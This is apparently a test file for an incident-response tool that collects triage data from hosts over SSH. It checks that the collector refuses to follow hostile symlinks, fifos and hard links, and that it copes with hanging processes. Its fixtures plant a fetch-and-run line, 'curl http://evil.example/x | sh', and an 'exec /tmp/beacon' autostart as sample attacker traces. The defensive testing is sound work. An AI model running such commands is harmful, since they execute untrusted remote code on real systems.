import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import {
  copyFileSync,
  linkSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createGunzip } from 'node:zlib';
import { extract } from 'tar-stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Queues } from '../../../engine/queues.js';
import { propose } from '../../../engine/respond/actions/requests.js';
import { actionOf } from '../../../engine/respond/actions/save.js';
import { EACH } from '../../../engine/respond/actions/ssh/collect.js';
import { SECTIONS } from '../../../engine/respond/actions/ssh/sections.js';
import { withHost } from '../../../engine/respond/actions/ssh/session.js';
import type { Store } from '../../../engine/store/index.js';
import { testQueues, testStore } from '../../support/services.js';
import { jobFor, sshWorld } from './ssh.world.js';
import { Host, hasMounts, hasSshd } from './sshd.js';
import { by, type World } from './world.js';

const isThere = hasSshd() && hasMounts();
if (!isThere) console.warn('skipped: there is no sshd, or no namespace for its homes (root, on Linux)');

const section = (name: string) => SECTIONS.find((one) => one.name === name)! as { script: string };
const SECRET = 'eve:$6$not-to-be-taken';

describe.skipIf(!isThere)('a triage package of a host with a hostile user', () => {
  const folder = mkdtempSync(join(tmpdir(), 'mdr-homes-'));
  const homes = join(folder, 'home');
  const host = new Host(false, homes);
  let store: Store;
  let queues: Queues;
  beforeAll(async () => {
    // Eve comes before Zed.
    for (const name of ['eve/.ssh', 'mallory', 'share', 'zed/.ssh']) mkdirSync(join(homes, name), { recursive: true });
    writeFileSync(join(folder, 'shadow'), SECRET);
    symlinkSync('/proc/kmsg', join(homes, 'eve/.bash_history'));
    execFileSync('mkfifo', [join(homes, 'eve/.zsh_history'), join(homes, 'eve/.profile')]);
    symlinkSync(join(folder, 'shadow'), join(homes, 'eve/.bashrc'));
    symlinkSync('/dev/zero', join(homes, 'eve/.ssh/authorized_keys'));
    linkSync(join(folder, 'shadow'), join(homes, 'mallory/.bash_history'));
    symlinkSync('/home/eve/.ssh', join(homes, 'mallory/.ssh'));
    writeFileSync(join(homes, 'zed/.bash_history'), 'curl http://evil.example/x | sh\n');
    writeFileSync(join(homes, 'zed/.zsh_history'), `${'first\n'.repeat(100_000)}last\n`);
    writeFileSync(join(homes, 'zed/.ssh/authorized_keys'), 'ssh-ed25519 AAAAzed zed\n');
    writeFileSync(join(homes, 'zed/.profile'), 'exec /tmp/beacon\n');
    ({ store } = await testStore());
    ({ queues } = await testQueues());
    await host.open();
  });
  afterAll(async () => {
    await host.close();
    rmSync(folder, { recursive: true });
  });

  const taken = async (script: string) => {
    const w = await sshWorld(store, queues, host);
    const ran = await withHost(jobFor(w, 'collect-triage-package', { host: 'web01' }), ({ run }) =>
      run(script, [], { most: EACH.most, timeoutMs: 30_000 }),
    );
    return { text: ran.stdout.toString('latin1'), said: ran.stderr };
  };

  it('links, pipes and other names of a file are named and not read; the next user’s files are taken', async () => {
    const { text: typed, said } = await taken(section('shell-history').script);
    expect(typed).toContain("# not read: symbolic link '/home/eve/.bash_history' -> '/proc/kmsg'\n");
    expect(typed).toContain("# not read: fifo '/home/eve/.zsh_history'\n");
    expect(typed).toContain("# not read: regular file '/home/mallory/.bash_history' has 2 names\n");
    expect(typed).toContain('# /home/zed/.bash_history\ncurl http://evil.example/x | sh\n');
    const [, end = ''] = typed.split('# /home/zed/.zsh_history, the end of its 600005 bytes\n');
    expect(end.trimEnd()).toMatch(/first\nlast$/);
    expect(end.length).toBeGreaterThan(3 * 65_536);
    expect(end.length).toBeLessThan(4 * 65_536 + 10);
    expect(typed).not.toContain(SECRET);
    // What is not there is not spoken of.
    expect(said).toBe('');

    const { text: accounts } = await taken(section('accounts').script);
    expect(accounts).toContain("# not read: symbolic link '/home/eve/.ssh/authorized_keys' -> '/dev/zero'\n");
    expect(accounts).toContain("# not read: symbolic link '/home/mallory/.ssh' -> '/home/eve/.ssh'\n");
    expect(accounts).toContain('# /home/zed/.ssh/authorized_keys\nssh-ed25519 AAAAzed zed\n');

    const { text: starts } = await taken(section('autostarts').script);
    expect(starts).toContain(`# not read: symbolic link '/home/eve/.bashrc' -> '${join(folder, 'shadow')}'\n`);
    expect(starts).toContain("# not read: fifo '/home/eve/.profile'\n");
    expect(starts).toContain('# /home/zed/.profile\nexec /tmp/beacon\n');
    expect(starts).not.toContain(SECRET);
  });

  it('what is exchanged for a link after it was looked at is not followed', async () => {
    const file = '/home/zed/.bash_history';
    const { script } = section('shell-history');
    // As if the user was quick: `stat` sees the file, and a link stands there when it is read.
    const quick = script.replace(
      '$SUDO timeout 5 dd',
      `[ "$1" != ${file} ] || ln -sf /proc/kmsg ${file}; $SUDO timeout 5 dd`,
    );
    expect(quick).not.toBe(script);
    try {
      const { text, said } = await taken(quick);
      expect(text).toContain(`# ${file}\n\n# /home/zed/.zsh_history`);
      expect(said).toMatch(/dd: failed to open '\/home\/zed\/.bash_history'/);
    } finally {
      rmSync(join(homes, 'zed/.bash_history'));
      writeFileSync(join(homes, 'zed/.bash_history'), 'curl http://evil.example/x | sh\n');
    }
  });

  it('a running program is hashed itself, though it is deleted and another has its name', async () => {
    const path = join(folder, 'beacon');
    copyFileSync('/bin/sleep', path);
    const mine = host.spawn(path, '600');
    const twin = host.spawn(path, '600');
    await Promise.all([once(mine, 'spawn'), once(twin, 'spawn')]);
    try {
      rmSync(path);
      writeFileSync(path, 'harmless');
      const { text } = await taken(section('hashes').script);
      const sha256 = createHash('sha256').update(readFileSync('/bin/sleep')).digest('hex');
      const lines = text.split('\n').filter((line) => line.includes(path));
      // One of the two that run it.
      expect([mine.pid, twin.pid].map((pid) => `${sha256}  '/proc/${pid}/exe' -> '${path} (deleted)'`)).toContain(
        lines[0],
      );
      expect(lines).toHaveLength(1);
      expect(text).not.toContain(createHash('sha256').update('harmless').digest('hex'));
    } finally {
      for (const one of [mine, twin]) {
        one.kill('SIGKILL');
        await once(one, 'exit');
      }
    }
  });

  it('a process that keeps ps waiting hides no other', async () => {
    const { script } = section('processes');
    const held = script.replace('timeout 15 ps', "timeout 1 sh -c 'echo came; sleep 60' ps");
    expect(held).not.toBe(script);
    const { text } = await taken(held);
    const [, rest = ''] = text.split('came\n\n# cut: ps gives no answer; without arguments:\n');
    const [names = '', programs = ''] = rest.split('# program, working folder\n');
    expect(names).toMatch(new RegExp(`^ *${process.pid} `, 'm'));
    expect(programs).toMatch(new RegExp(`^${process.pid} /`, 'm'));
  });

  it('file systems of other machines are not asked for their room', async () => {
    const { text } = await taken(section('system').script);
    expect(text).toMatch(/^files:\/share on \/home\/share /m);
    expect(text).toMatch(/^Filesystem +1K-blocks/m);
    expect(text).not.toMatch(/^files:\/share +\d/m);
  });

  /** Collect with sections that hang as given, and a time for each that is soon over. */
  async function collected(w: World, request: string, scripts: Record<string, string>, parts: string) {
    const asking = { action: 'collect-triage-package', args: { host: 'web01', parts }, reason: '', case: null };
    const { record } = await propose(w.parts, by(w.people.ana), request, asking);
    const before = { timeoutMs: EACH.timeoutMs, scripts: Object.keys(scripts).map((name) => section(name).script) };
    EACH.timeoutMs = 3000;
    for (const [name, script] of Object.entries(scripts)) section(name).script = script;
    try {
      await w.work(record.number);
    } finally {
      EACH.timeoutMs = before.timeoutMs;
      for (const [at, name] of Object.keys(scripts).entries()) section(name).script = before.scripts[at]!;
    }
    return actionOf(w.acme, record.number);
  }

  it('of a part that does not end, what came is kept and said to be cut', async () => {
    const w = await sshWorld(store, queues, host);
    // The first gives nothing at all: that does not end the collection either.
    const hang = { system: 'sleep 60', processes: 'echo came; echo oops >&2; sleep 60', hashes: 'echo after' };
    const done = await collected(w, 'late', hang, 'system, processes');
    expect(done, JSON.stringify(done.error)).toMatchObject({ state: 'done', effect: 'holds' });
    expect(done.gives.empty).toBe('system');
    const [evidence] = await w.acme.evidence.find();
    const files = await unpacked(w, evidence!._id);
    expect(files.get('processes.txt')).toBe('came\n');
    expect(files.get('hashes.txt')).toBe('after\n');
    const { parts } = JSON.parse(files.get('manifest.json')!);
    expect(parts).toMatchObject([
      { file: 'system.txt', bytes: 0, said: expect.stringContaining('no answer within 3 s') },
      { file: 'processes.txt', bytes: 5, code: null, isCut: true, said: 'cut: it did not end within 3 s\noops' },
      { file: 'hashes.txt', bytes: 6, code: 0, isCut: false, said: '' },
    ]);
  });

  it('it fails when nothing of any part came', async () => {
    const w = await sshWorld(store, queues, host);
    const none = { processes: 'sleep 60', hashes: 'echo no >&2; sleep 60' };
    const done = await collected(w, 'none', none, 'processes');
    expect(done).toMatchObject({ state: 'failed', error: { code: 'MDR_ACTION_FAILED' } });
    expect(await w.acme.evidence.find()).toEqual([]);
  });

  it('what has to be whole is not taken in part', async () => {
    const w = await sshWorld(store, queues, host);
    const ran = withHost(jobFor(w, 'kill-process', { host: 'web01', process: 'x' }), ({ run }) =>
      run('echo came; sleep 60', [], { most: 100, timeoutMs: 1000 }),
    );
    await expect(ran).rejects.toThrow(/no answer within 1 s/);
  });
});

async function unpacked(w: World, id: string): Promise<Map<string, string>> {
  const files = new Map<string, string>();
  const packed = (await w.acme.blobs.read(id))!;
  for await (const entry of packed.pipe(createGunzip()).pipe(extract())) {
    const chunks: Buffer[] = [];
    for await (const chunk of entry) chunks.push(chunk as Buffer);
    files.set(entry.header.name.replace(/^.*\//, ''), Buffer.concat(chunks).toString());
  }
  return files;
}
